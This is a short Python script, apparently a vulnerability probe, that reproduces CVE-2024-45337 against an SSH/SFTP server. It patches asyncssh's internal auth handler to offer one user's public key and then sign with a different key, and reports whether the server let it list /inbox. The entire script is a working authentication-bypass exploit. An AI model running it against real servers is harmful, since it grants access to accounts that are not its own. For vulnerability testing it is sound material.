# Logs in as CVE-2024-45337 has it: offers the public key SG_OFFER, and when the server says that it would take it, signs with the private
# key SG_KEY, which belongs to another. Says what the server said.
import asyncio
import os

import asyncssh
import asyncssh.auth as auth

offered = asyncssh.read_private_key(os.environ["SG_OFFER"])
own = asyncssh.read_private_key(os.environ["SG_KEY"])
taken = []
table = auth._ClientPublicKeyAuth._packet_handlers


def exchange(self, kind, number, packet):
    taken.append(True)
    packet.get_remaining_payload()
    self._keypair = asyncssh.load_keypairs([own])[0]
    self.create_task(self._send_signed_request())


table[auth.MSG_USERAUTH_PK_OK] = exchange


async def main():
    try:
        async with asyncssh.connect(os.environ["SG_HOST"], int(os.environ["SG_PORT"]), username=os.environ["SG_USER"], client_keys=[offered],
                                    known_hosts=None, config=None, agent_path=None, password=None) as conn:
            async with conn.start_sftp_client() as sftp:
                await sftp.listdir("/inbox")
                print("in", end=" ")
    except asyncssh.PermissionDenied:
        print("denied", end=" ")
    print("offer taken" if taken else "offer refused")


asyncio.run(main())
